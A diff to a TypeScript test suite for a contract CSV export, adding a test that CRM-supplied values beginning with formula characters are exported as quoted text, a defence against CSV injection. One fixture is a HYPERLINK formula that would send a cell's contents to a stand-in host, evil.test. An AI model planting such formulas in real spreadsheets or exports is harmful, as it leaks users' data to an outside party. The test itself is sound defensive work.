@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { randomUUID } from 'node:crypto';
 import {
   ApiClient,
@@ -57,12 +58,41 @@ it('exports CSV with Cyrillic intact', async () => {
   expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
   const text = csv.bytes.toString('utf8');
   expect(text.charCodeAt(0)).toBe(0xfeff);
-  const [header, ...rows] = text.slice(1).trim().split('\n');
-  expect(header).toBe(
+  const [header, ...rows] = parse(text, { bom: true }) as string[][];
+  expect(header.join(',')).toBe(
     'applicationId,crmApplicationId,courseCode,clientName,clientEmail,clientPhone,status,outcome,outcomeReason,signedAt,createdAt',
   );
   expect(rows).toHaveLength(2);
-  expect(text).toContain('Сидорова Мария Ивановна');
+  expect(rows.map((row) => row[3])).toContain('Сидорова Мария Ивановна');
+});
+
+it('exports CRM-supplied text as text, never as a spreadsheet formula (OWASP CSV injection)', async () => {
+  const hostile = { code: `CSVINJ-${randomUUID().slice(0, 6)}` };
+  await openCourse(hostile);
+  const amo = await crm();
+  const formula = '=HYPERLINK("http://evil.test/?"&E2,"open")';
+  const dto = application(hostile.code, {
+    crmApplicationId: `-${randomUUID()}`,
+    clientName: formula,
+    clientEmail: `=1+1-${randomUUID().slice(0, 6)}@example.test`,
+    clientPhone: '+79991234567',
+  });
+  const posted = await amo.post('/applications', dto);
+  expect(posted.status).toBe(201);
+  const csv = await operator.download(`/contracts/export.csv?courseCode=${hostile.code}`);
+  expect(csv.status).toBe(200);
+  const [header, ...rows] = parse(csv.bytes.toString('utf8'), { bom: true }) as string[][];
+  expect(rows).toHaveLength(1);
+  const cell = Object.fromEntries(header.map((name, i) => [name, rows[0][i]]));
+  expect(cell.clientName).toBe(`'${formula}`);
+  expect(cell.crmApplicationId).toBe(`'${dto.crmApplicationId}`);
+  expect(cell.clientEmail).toBe(`'${dto.clientEmail}`);
+  // A leading '+' is a formula to Excel too: the phone number is exported as text, '+7…
+  expect(cell.clientPhone).toBe("'+79991234567");
+  // Cells that cannot start a formula are unchanged.
+  expect(cell.applicationId).toBe(posted.body.applicationId);
+  expect(cell.courseCode).toBe(hostile.code);
+  for (const value of Object.values(cell)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
 });
 
 it('downloads documents and shows the audit trail', async () => {
